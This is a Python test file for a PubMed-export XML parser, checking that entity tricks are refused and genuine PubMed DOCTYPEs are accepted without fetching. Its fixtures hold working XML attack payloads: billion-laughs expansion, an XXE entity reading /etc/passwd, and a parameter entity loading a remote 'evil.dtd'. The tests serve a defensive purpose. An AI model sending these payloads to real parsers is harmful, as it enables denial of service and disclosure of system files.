"""Unsafe XML is refused before anything is expanded or fetched; PubMed's own DOCTYPE is accepted."""

from __future__ import annotations

import pytest

from kbchat.ingest.kb.citation import ImportProblem
from kbchat.ingest.kb.safexml import parse_xml

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<PubmedArticleSet>&lol3;</PubmedArticleSet>"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<PubmedArticleSet>&xxe;</PubmedArticleSet>"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<PubmedArticleSet/>"""
UNDECLARED = """<?xml version="1.0"?>
<!DOCTYPE PubmedArticleSet PUBLIC "-//NLM//DTD PubMedArticle//EN" "https://dtd.nlm.nih.gov/x.dtd">
<PubmedArticleSet>&nbsp;</PubmedArticleSet>"""
PUBMED_DOCTYPE = """<?xml version="1.0" ?>
<!DOCTYPE PubmedArticleSet PUBLIC "-//NLM//DTD PubMedArticle, 1st January 2025//EN" "https://dtd.nlm.nih.gov/ncbi/pubmed/out/pubmed_250101.dtd">
<PubmedArticleSet><PubmedArticle>a &amp; b</PubmedArticle></PubmedArticleSet>"""


@pytest.mark.parametrize(
    ("xml", "fragment"),
    [(LAUGHS, "its own DTD"), (EXTERNAL, "its own DTD"), (PARAMETER, "its own DTD"),
     (UNDECLARED, "not declared")],
)
def test_entity_tricks_are_refused(xml: str, fragment: str) -> None:
    with pytest.raises(ImportProblem, match=r"export\.xml") as err:
        parse_xml(xml.encode(), "export.xml")
    assert fragment in str(err.value) and "Save the export again" in str(err.value)


def test_pubmeds_external_doctype_is_accepted_and_never_fetched() -> None:
    root = parse_xml(PUBMED_DOCTYPE.encode(), "export.xml")  # no network here: a fetch would fail
    assert root.tag == "PubmedArticleSet" and root[0].text == "a & b"


def test_an_oversized_file_is_refused_without_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kbchat.ingest.kb.safexml.MAX_BYTES", 10)
    with pytest.raises(ImportProblem, match="split the export"):
        parse_xml(b"<PubmedArticleSet></PubmedArticleSet>", "export.xml")
